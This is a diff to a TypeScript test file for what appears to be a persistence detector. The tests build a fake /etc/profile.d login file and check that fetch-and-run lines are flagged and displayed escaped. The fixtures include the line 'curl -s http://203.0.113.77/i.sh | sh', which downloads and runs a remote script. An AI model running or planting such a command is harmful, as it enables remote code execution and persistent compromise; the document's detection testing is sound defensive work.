@@ -8,17 +8,19 @@ import { thingsOf } from './things.ts';
 
 const PROFILE = show('/etc/profile.d/x.sh');
 
-/** Titles of the starters beside cron, with a login file of this text. */
+/** A login file of this text. */
+const profile = (text: string): PersistenceEntry => ({
+  kind: 'profile',
+  path: PROFILE,
+  text: show(text),
+  sha256: null,
+  truncated: false,
+  identity: identityOf(PROFILE, text.length),
+});
+
+/** Titles of the starters beside cron, with that login file. */
 function starters(text: string): string[] {
-  const entry: PersistenceEntry = {
-    kind: 'profile',
-    path: PROFILE,
-    text: show(text),
-    sha256: null,
-    truncated: false,
-    identity: identityOf(PROFILE, text.length),
-  };
-  const snapshot = { ...infectedSnapshot(), persistence: [entry] };
+  const snapshot = { ...infectedSnapshot(), persistence: [profile(text)] };
   return thingsOf(snapshot, judge(snapshot, labContext)).flatMap(({ thing, title }) =>
     thing.kind === 'starter' ? [title] : [],
   );
@@ -36,4 +38,14 @@ test('a login file that fetches something and runs it counts, however it spells 
 
 test('one that only fetches does not', () => {
   expect(starters('curl -s http://203.0.113.77/motd\n')).toEqual([]);
+});
+
+test('the lines of a starter that tell are kept as shown text', () => {
+  const text = 'true\ncurl -s http://203.0.113.77/i.sh | sh # \u001b[2J\n';
+  const entry = profile(text);
+  const snapshot = { ...infectedSnapshot(), persistence: [entry] };
+  const lines = thingsOf(snapshot, judge(snapshot, labContext)).flatMap(({ thing }) =>
+    thing.kind === 'starter' ? thing.lines : [],
+  );
+  expect(lines).toEqual([show('curl -s http://203.0.113.77/i.sh | sh # \u001b[2J')]);
 });
